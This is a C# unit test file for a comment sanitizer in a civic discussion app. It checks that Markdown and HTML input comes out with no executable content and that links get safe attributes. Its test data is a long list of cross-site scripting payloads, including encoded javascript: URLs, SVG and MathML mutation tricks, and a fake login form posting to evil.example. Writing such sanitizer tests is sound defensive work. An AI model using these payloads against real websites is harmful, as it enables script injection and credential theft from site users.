using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using ActiveCitizen.App.Features.Discussions;
using CsCheck;

namespace ActiveCitizen.Tests.Features.Discussions;

/// <summary>What residents type becomes safe HTML: formatting survives, nothing that can run does.</summary>
public sealed class CommentMarkupTests
{
    private static readonly CommentMarkup Markup = new();
    private static readonly HtmlParser Parser = new();
    private static readonly HashSet<string> AllowedElements = ["p", "br", "strong", "em", "ul", "ol", "li", "blockquote", "a"];
    private static readonly HashSet<string> AllowedAttributes = ["href", "rel", "target"];

    /// <summary>
    /// Script tags, event attributes, javascript:/data:/vbscript: URLs, SVG and MathML, broken and nested markup, encodings, and the
    /// Markdown forms of each: what the comment box must survive.
    /// </summary>
    public static readonly string[] XssVectorList =
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
        "<script>document.body.dataset.xss='1'</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" onerror=\"document.body.dataset.xss='1'\">",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
        "<IMG SRC=`javascript:alert(\"XSS\")`>",
        "<img src=\"jav&#x09;ascript:alert(1);\">",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">click</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<body onload=alert(1)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<form action=\"https://evil.example\"><input name=password><button>Log in</button></form>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>hi</marquee>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
        "<a href=\" javascript:alert(1)\">click</a>",
        "<a href=\"java\nscript:alert(1)\">click</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">click</a>",
        "<a href=\"&#x6A;avascript:alert(1)\">click</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">click</a>",
        "<a href=\"vbscript:msgbox(1)\">click</a>",
        "<a href=\"https://example.org\" onclick=\"alert(1)\">looks fine</a>",
        "<a href=\"https://example.org\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</a>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<style>body{background:url(\"javascript:alert(1)\")}</style>",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"https://evil.example/\">",
        "<p title=\"</p><script>alert(1)</script>\">x</p>",
        "<<script>script>alert(1)<</script>/script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<img src=x onerror=alert(1)//",
        "<a href=\"https://example.org\"><img src=x onerror=alert(1)></a>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<![CDATA[<script>alert(1)</script>]]>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<textarea><script>alert(1)</script></textarea>",
        "<select><option><script>alert(1)</script></option></select>",
        "[click me](javascript:alert(1))",
        "[click me](JAVASCRIPT:alert(1))",
        "[click me](javascript&#58;alert(1))",
        "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[click me](vbscript:msgbox(1))",
        "![image](javascript:alert(1))",
        "![image](https://evil.example/pixel.gif \"onerror=alert(1)\")",
        "[link](https://example.org \"title\" onclick=alert(1))",
        "<javascript:alert(1)>",
        "**bold <script>alert(1)</script>**",
        "> quote <img src=x onerror=alert(1)>",
        "- item <svg onload=alert(1)>",
        "[a](<javascript:alert(1)>)",
        "[a]: javascript:alert(1)\n\n[a]",
        "`<script>alert(1)</script>`",
        "```html\n<script>alert(1)</script>\n```",
    ];

    public static readonly TheoryData<string> XssVectors = new(XssVectorList);

    [Theory]
    [MemberData(nameof(XssVectors))]
    public void Nothing_that_could_run_survives_a_comment(string vector)
    {
        AssertSafe(Markup.ToHtml(vector));
        // Even HTML that reached the sanitizer without passing through Markdown comes out safe.
        AssertSafe(Markup.Sanitize(vector));
    }

    [Fact]
    public void The_list_of_attacks_is_long_enough_to_mean_something() => Assert.True(XssVectorList.Length >= 50);

    [Theory]
    [InlineData("**bold** and *italic*", "<p><strong>bold</strong> and <em>italic</em></p>")]
    [InlineData("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>")]
    [InlineData("1. first\n2. second", "<ol>\n<li>first</li>\n<li>second</li>\n</ol>")]
    [InlineData("> quoted", "<blockquote>\n<p>quoted</p>\n</blockquote>")]
    [InlineData("line one\nline two", "<p>line one<br>\nline two</p>")]
    [InlineData("# Heading", "Heading")]
    [InlineData("Tom & Jerry <3", "<p>Tom &amp; Jerry &lt;3</p>")]
    public void The_small_markdown_subset_is_kept(string markdown, string html) => Assert.Equal(html, Markup.ToHtml(markdown));

    [Theory]
    [InlineData("[the city](https://example.org/city)", "https://example.org/city")]
    [InlineData("See https://example.org/plan", "https://example.org/plan")]
    [InlineData("[write to us](mailto:help@example.org)", "mailto:help@example.org")]
    public void Links_leave_the_site_without_passing_anything_on(string markdown, string href)
    {
        var link = Parser.ParseDocument(Markup.ToHtml(markdown)).QuerySelector("a")!;

        Assert.Equal(href, link.GetAttribute("href"));
        Assert.Equal("nofollow ugc noopener", link.GetAttribute("rel"));
        Assert.Equal("_blank", link.GetAttribute("target"));
    }

    [Theory]
    [InlineData("[log out](/Account/Logout)")]
    [InlineData("[elsewhere](//evil.example/phish)")]
    [InlineData("[relative](account/delete)")]
    [InlineData("[ftp](ftp://files.example/x)")]
    public void Links_that_are_not_absolute_web_or_mail_addresses_lose_their_target(string markdown)
    {
        var link = Parser.ParseDocument(Markup.ToHtml(markdown)).QuerySelector("a");

        Assert.NotNull(link);
        Assert.False(link.HasAttribute("href"));
    }

    [Fact]
    public void A_link_that_claims_other_rel_values_gets_ours() =>
        Assert.Equal("nofollow ugc noopener", Parser.ParseDocument(Markup.Sanitize("<a href=\"https://example.org\" rel=\"opener\" target=\"_self\">x</a>"))
            .QuerySelector("a")!.GetAttribute("rel"));

    [Fact]
    public void Plain_text_excerpts_drop_the_markup_and_stay_short()
    {
        Assert.Equal("bold and a link", CommentMarkup.PlainText("**bold** and [a link](https://example.org)", 100));
        Assert.Equal("abcd…", CommentMarkup.PlainText("abcdefghij", 5));
    }

    /// <summary>
    /// Whatever is typed, mixed from dangerous fragments, Markdown and random characters: the output holds no script element,
    /// no event attribute and no javascript: URL, and sanitizing it again changes nothing.
    /// </summary>
    [Fact]
    public void Any_input_comes_out_safe_and_stable()
    {
        string[] fragments =
        [
            "<script>", "</script>", "<img src=x ", "onerror=", "onload=", "onclick=\"", "alert(1)", "javascript:", "JaVaScRiPt:", "&#106;", "&#x3A;",
            "data:text/html,", "vbscript:", "<svg", "<a href=\"", "\">", "<", ">", "\"", "'", "`", "=", "/", "\\", "&lt;", "&gt;", "&amp;",
            "<style>", "<iframe", "<form", "<math>", "<!--", "-->", "<![CDATA[", "]]>", "[x](", ")", "**", "*", "- ", "> ", "\n", " ", "\t",
            "\u0000", "\u200B", "<p>", "</p>", "<br>", "<strong>", "<em>", "<blockquote>", "<ul><li>", "https://example.org",
        ];
        var piece = Gen.OneOf<IGen<string>>(Gen.OneOf(fragments), Gen.String[0, 6]);
        var input = piece.Array[0, 24].Select(pieces => string.Concat(pieces));

        input.Sample(text =>
        {
            var fromMarkdown = Markup.ToHtml(text);
            AssertSafe(fromMarkdown);
            Assert.Equal(fromMarkdown, Markup.Sanitize(fromMarkdown));
            var fromHtml = Markup.Sanitize(text);
            AssertSafe(fromHtml);
            Assert.Equal(fromHtml, Markup.Sanitize(fromHtml));
        }, iter: 3_000);
    }

    private static void AssertSafe(string html)
    {
        var body = Parser.ParseDocument($"<body>{html}</body>").Body!;
        foreach (var element in body.Descendants<IElement>())
        {
            Assert.Contains(element.LocalName, AllowedElements);
            foreach (var attribute in element.Attributes)
            {
                Assert.Contains(attribute.Name, AllowedAttributes);
                Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), $"Event attribute {attribute.Name} in {html}");
            }
            if (element.GetAttribute("href") is { } href)
            {
                var scheme = Uri.TryCreate(href.Trim(), UriKind.Absolute, out var uri) ? uri.Scheme : "";
                Assert.Contains(scheme, new[] { "http", "https", "mailto" });
            }
        }
        Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("javascript:", string.Concat(body.Descendants<IElement>().SelectMany(element => element.Attributes).Select(attribute => attribute.Value)),
            StringComparison.OrdinalIgnoreCase);
    }
}
